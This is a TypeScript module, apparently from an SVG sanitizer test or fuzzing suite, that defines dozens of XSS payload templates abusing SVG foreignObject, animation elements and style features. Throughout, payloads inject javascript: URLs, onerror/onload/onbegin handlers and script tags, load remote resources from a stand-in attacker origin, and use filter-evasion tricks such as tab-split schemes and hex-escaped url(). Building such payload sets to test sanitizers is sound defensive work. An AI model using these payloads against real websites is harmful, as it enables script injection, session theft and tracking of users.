import { js, rect9, SHAPE, SVG_OPEN, type Template } from './payloadParts.ts';
import type { XssFamily } from './XssVector.ts';
import { XSS_EVIL_HOST, XSS_EVIL_ORIGIN } from './xssTargets.ts';

/** Payloads that abuse SVG's own features: foreignObject, animation elements, styles. */
export const SVG_FEATURE_PAYLOADS: Record<
  Extract<XssFamily, 'foreign-object' | 'animation' | 'style'>,
  Record<string, Template>
> = {
  'foreign-object': {
    'fo-img-onerror': (id) =>
      `${SVG_OPEN}<foreignObject width="24" height="24"><img src=x onerror="${js(id)}"></foreignObject></svg>`,
    'fo-iframe-js': (id) =>
      `${SVG_OPEN}<foreignObject><iframe src="javascript:${js(id)}"></iframe></foreignObject></svg>`,
    'fo-xhtml-script': (id) =>
      `${SVG_OPEN}<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${js(id)}</script></body></foreignObject></svg>`,
    'fo-anchor-js': (id) =>
      `${SVG_OPEN}<foreignObject><a href="javascript:${js(id)}">x</a></foreignObject></svg>`,
    'fo-lowercase': (id) => `<svg><foreignobject><img src=x onerror="${js(id)}"></foreignobject></svg>`,
    'fo-formaction': (id) =>
      `${SVG_OPEN}<foreignObject><form><button formaction="javascript:${js(id)}">x</button></form></foreignObject></svg>`,
    'fo-stylesheet-link': (id) =>
      `${SVG_OPEN}<foreignObject><link rel="stylesheet" href="${XSS_EVIL_ORIGIN}/${id}.css"></foreignObject></svg>`,
    'fo-meta-refresh': (id) =>
      `${SVG_OPEN}<foreignObject><meta http-equiv="refresh" content="0;url=javascript:${js(id)}"></foreignObject></svg>`,
    'fo-object-remote': (id) =>
      `${SVG_OPEN}<foreignObject><object data="${XSS_EVIL_ORIGIN}/${id}"></object></foreignObject></svg>`,
    'fo-switch': (id) =>
      `${SVG_OPEN}<switch><foreignObject><img src=x onerror="${js(id)}"></foreignObject>${SHAPE}</switch></svg>`,
    'fo-input-autofocus': (id) =>
      `${SVG_OPEN}<foreignObject><input autofocus onfocus="${js(id)}"></foreignObject></svg>`,
    'fo-body-onload': (id) =>
      `${SVG_OPEN}<foreignObject><body onload="${js(id)}"></body></foreignObject></svg>`,
    'fo-img-remote': (id) =>
      `${SVG_OPEN}<foreignObject><img src="${XSS_EVIL_ORIGIN}/${id}.png"></foreignObject></svg>`,
  },
  animation: {
    'anim-animate-href-values': (id) =>
      `${SVG_OPEN}<a><animate attributeName="href" values="javascript:${js(id)}"/><text y="12">x</text></a></svg>`,
    'anim-set-xlink-href': (id) =>
      `${SVG_OPEN}<a xlink:href="#"><set attributeName="xlink:href" to="javascript:${js(id)}"/>${SHAPE}</a></svg>`,
    'anim-animate-from-to': (id) =>
      `${SVG_OPEN}<animate xlink:href="#l" attributeName="href" from="#" to="javascript:${js(id)}" begin="0s" dur="1s"/><a id="l">${SHAPE}</a></svg>`,
    'anim-use-href-remote': (id) =>
      `${SVG_OPEN}<use href="#a"><animate attributeName="href" values="${XSS_EVIL_ORIGIN}/${id}.svg#a"/></use></svg>`,
    'anim-set-image-href': (id) =>
      `${SVG_OPEN}<image width="9" height="9"><set attributeName="href" to="${XSS_EVIL_ORIGIN}/${id}.png"/></image></svg>`,
    'anim-set-onload': (id) => `${SVG_OPEN}<set attributeName="onload" to="${js(id)}"/></svg>`,
    'anim-set-onmouseover': (id) =>
      `${SVG_OPEN}<rect width="9" height="9"><set attributeName="onmouseover" to="${js(id)}"/></rect></svg>`,
    'anim-mpath-remote': (id) =>
      `${SVG_OPEN}<rect width="1" height="1"><animateMotion dur="1s"><mpath href="${XSS_EVIL_ORIGIN}/${id}.svg#p"/></animateMotion></rect></svg>`,
    'anim-tab-in-value': (id) =>
      `${SVG_OPEN}<a href="#"><animate attributeName="href" values="java&#x09;script:${js(id)}"/>${SHAPE}</a></svg>`,
    'anim-animate-transform-onbegin': (id) =>
      `${SVG_OPEN}<animateTransform attributeName="transform" type="scale" values="1;2" dur="1ms" onbegin="${js(id)}"/></svg>`,
    'anim-discard-onbegin': (id) => `${SVG_OPEN}<discard onbegin="${js(id)}"/></svg>`,
    'anim-set-style-url': (id) =>
      `${SVG_OPEN}<rect width="9" height="9"><set attributeName="style" to="fill:url(${XSS_EVIL_ORIGIN}/${id}.svg#g)"/></rect></svg>`,
    'anim-animate-fill-url': (id) =>
      `${SVG_OPEN}<rect width="9" height="9"><animate attributeName="fill" values="url(${XSS_EVIL_ORIGIN}/${id}.svg#g)" dur="1s"/></rect></svg>`,
    'anim-animatecolor': (id) =>
      `${SVG_OPEN}<animateColor attributeName="fill" to="red" onbegin="${js(id)}"/></svg>`,
    'anim-set-attribute-type-xml': (id) =>
      `${SVG_OPEN}<a><set attributeType="XML" attributeName="href" to="javascript:${js(id)}"/>${SHAPE}</a></svg>`,
  },
  style: {
    'style-element-import': (id) =>
      `${SVG_OPEN}<style>@import url("${XSS_EVIL_ORIGIN}/${id}.css");</style></svg>`,
    'style-element-url': (id) =>
      `${SVG_OPEN}<style>rect{fill:url(${XSS_EVIL_ORIGIN}/${id}.svg#g)}</style>${SHAPE}</svg>`,
    'style-attr-fill-url': (id) => rect9(`style="fill:url(${XSS_EVIL_ORIGIN}/${id}.svg#g)"`),
    'style-attr-background': (id) => rect9(`style="background-image:url('${XSS_EVIL_ORIGIN}/${id}.png')"`),
    'style-attr-escaped-url': (id) => rect9(`style="fill:u\\72l(${XSS_EVIL_ORIGIN}/${id})"`),
    'style-attr-comment-url': (id) => rect9(`style="fill:url/**/(${XSS_EVIL_ORIGIN}/${id})"`),
    'style-presentation-fill': (id) => rect9(`fill="url(${XSS_EVIL_ORIGIN}/${id}.svg#g)"`),
    'style-presentation-filter': (id) => rect9(`filter="url(${XSS_EVIL_ORIGIN}/${id}.svg#f)"`),
    'style-presentation-mask': (id) => rect9(`mask="url('//${XSS_EVIL_HOST}/${id}.svg#m')"`),
    'style-presentation-clip-quoted': (id) =>
      rect9(`clip-path="url( &quot;${XSS_EVIL_ORIGIN}/${id}.svg#c&quot; )"`),
    'style-behavior': () => rect9(`style="behavior:url(x.htc)"`),
    'style-moz-binding': (id) => rect9(`style="-moz-binding:url(${XSS_EVIL_ORIGIN}/${id}.xml#x)"`),
    'style-expression': (id) => `${SVG_OPEN}<rect style="width:expression(${js(id)})"/></svg>`,
    'style-image-set': (id) => rect9(`style="fill:image-set('${XSS_EVIL_ORIGIN}/${id}.png' 1x)"`),
    'style-font-face': (id) =>
      `${SVG_OPEN}<style>@font-face{font-family:okx;src:url(${XSS_EVIL_ORIGIN}/${id}.woff)}text{font-family:okx}</style><text y="9">x</text></svg>`,
    'style-cursor-url': (id) => rect9(`cursor="url(${XSS_EVIL_ORIGIN}/${id}.cur), auto"`),
    'style-marker-url': (id) =>
      `${SVG_OPEN}<path d="M0 0L9 9" marker-start="url(${XSS_EVIL_ORIGIN}/${id}.svg#m)"/></svg>`,
    'style-bare-import': (id) => `<style>@import '${XSS_EVIL_ORIGIN}/${id}.css';</style><svg/>`,
    'style-attr-entity-quote': (id) => rect9(`style="fill:url(&quot;${XSS_EVIL_ORIGIN}/${id}&quot;)"`),
    'style-custom-property': (id) => rect9(`style="--x:url(${XSS_EVIL_ORIGIN}/${id});fill:var(--x)"`),
    'style-uppercase-url': (id) => rect9(`style="fill:URL(${XSS_EVIL_ORIGIN}/${id})"`),
    'style-hex-escape-u': (id) => rect9(`style="fill:\\75rl(${XSS_EVIL_ORIGIN}/${id})"`),
    'style-link-stylesheet': (id) => `<link rel="stylesheet" href="${XSS_EVIL_ORIGIN}/${id}.css"><svg/>`,
    'style-element-escape': (id) =>
      `${SVG_OPEN}<style>rect{background:\\75\\72\\6c(${XSS_EVIL_ORIGIN}/${id})}</style>${SHAPE}</svg>`,
  },
};
